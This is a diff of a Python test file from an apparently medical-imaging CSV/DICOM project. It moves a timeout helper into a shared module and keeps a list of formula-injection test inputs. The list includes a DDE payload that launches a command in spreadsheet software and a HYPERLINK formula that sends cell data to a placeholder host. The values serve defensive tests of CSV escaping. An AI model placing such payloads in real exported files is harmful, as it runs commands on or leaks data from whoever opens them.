@@ -4,8 +4,6 @@ from __future__ import annotations
 
 import csv
 import os
-import signal
-from contextlib import contextmanager
 from pathlib import Path
 
 import numpy as np
@@ -15,25 +13,12 @@ from fibrosis.io import (FORMULA_START, CsvFormatError, NoSpaceError, NotRegular
                          csv_cell, csv_value, iter_csv, open_regular, read_csv, read_text, save_npy, write_csv,
                          write_json)
 from fibrosis.io import tmp_path as temporary_name
+from helpers.processes import deadline
 
 # Formulas seen in DICOM header values and labels CSV cells, and OWASP's other starts.
 HOSTILE = ['=HYPERLINK("http://x.invalid/?"&A1)', "=cmd|' /C calc'!A0", "=1+2", "@CMD", "-2+3", "+A1-1",
            "\t=1+2", "\r=1+2", "'already quoted", "-", "+", "=", "@"]
 PLAIN = ["-0.5", "+4", "1e-3", "-1.5E+10", "0", "", "PA", "TestVendor", "/data/=x.png", "a=b"]
-
-
-@contextmanager
-def deadline(seconds: int = 5):
-    """Fail instead of hanging: a FIFO opened the ordinary way would block forever."""
-    def boom(*_):
-        raise TimeoutError(f"blocked for {seconds} s")
-    old = signal.signal(signal.SIGALRM, boom)
-    signal.alarm(seconds)
-    try:
-        yield
-    finally:
-        signal.alarm(0)
-        signal.signal(signal.SIGALRM, old)
 
 
 def _raw_cells(path: Path) -> list[str]:
